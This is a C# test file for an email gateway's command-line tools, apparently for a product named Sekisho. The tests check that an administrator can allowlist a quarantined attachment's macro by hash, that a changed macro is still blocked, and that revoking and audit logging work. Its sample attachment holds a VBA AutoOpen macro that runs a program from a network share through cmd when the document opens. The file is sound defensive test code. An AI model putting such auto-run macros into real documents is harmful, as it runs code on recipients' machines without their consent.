using System.Text.Json;
using Sekisho.Options;
using Sekisho.SampleMaker;
using Sekisho.Server.Tests.Smtp;

namespace Sekisho.Server.Tests.Cli;

/// <summary>An admin allows the macro of one quarantined letter, and takes it back.</summary>
public sealed class MacrosCommandTests
{
    private const string Source = "Sub AutoOpen()\r\n    Shell \"cmd /c start \\\\server\\share\\tool.exe\", 1\r\nEnd Sub\r\n";

    [Fact]
    public async Task AnAllowedMacroPassesUntilItsCodeChangesOrItIsRevoked()
    {
        await using var host = await SmtpHost.StartAsync(new SekishoOptions(), keepPolicy: true);
        await host.SendAsync(Letter(Source));
        var id = JsonDocument.Parse((await host.CliAsync("quarantine", "list", "--json")).Lines[0]).RootElement.GetProperty("id").GetString()!;

        Assert.Equal(2, (await host.CliAsync("macros", "allow", id, "--for", "not a domain", "--reason", "x")).Code);
        var (code, lines) = await host.CliAsync("macros", "allow", id, "--for", "nurse@hospital.test", "--reason", "毎月の請求", "--expires", "2099-12-31", "--json");
        Assert.Equal(0, code);
        var hash = JsonDocument.Parse(Assert.Single(lines)).RootElement.GetProperty("hash").GetString()!;

        // Heard within a round; until then it is quarantined as before.
        Assert.True(await EventuallyDeliveredAsync(host, "' comments do not matter\r\n" + Source), host.LogTail);
        await host.SendAsync(Letter(Source), recipient: "doctor@hospital.test");
        await host.SendAsync(Letter(Source.Replace("tool", "evil", StringComparison.Ordinal)));
        Assert.Null(await host.NextLetterAsync(TimeSpan.FromSeconds(1)));

        (_, lines) = await host.CliAsync("macros", "list", "--json");
        var listed = JsonDocument.Parse(Assert.Single(lines)).RootElement;
        Assert.Equal((hash, "毎月の請求", false), (listed.GetProperty("hash").GetString(), listed.GetProperty("reason").GetString(), listed.GetProperty("expired").GetBoolean()));
        Assert.Equal(0, (await host.CliAsync("macros", "revoke", hash)).Code);
        Assert.Equal(3, (await host.CliAsync("macros", "revoke", hash)).Code);
        var (_, audit) = await host.CliAsync("audit", "list", "--json");
        var actions = audit.Select(l => JsonDocument.Parse(l).RootElement.GetProperty("action").GetString()).ToList();
        Assert.Contains("allow-macro", actions);
        Assert.Contains("revoke-macro", actions);
        Assert.True(JsonDocument.Parse((await host.CliAsync("audit", "verify", "--json")).Lines[0]).RootElement.GetProperty("intact").GetBoolean());
    }

    private static byte[] Letter(string source) => LetterWriter.WithAttachments("請求", "x", ("seikyu.doc", Samples.OldDocument(source)));

    private static async Task<bool> EventuallyDeliveredAsync(SmtpHost host, string source)
    {
        for (var i = 0; i < 15; i++)
        {
            await host.SendAsync(Letter(source));
            if (await host.NextLetterAsync(TimeSpan.FromSeconds(1)) is not null)
            {
                return true;
            }
        }

        return false;
    }
}
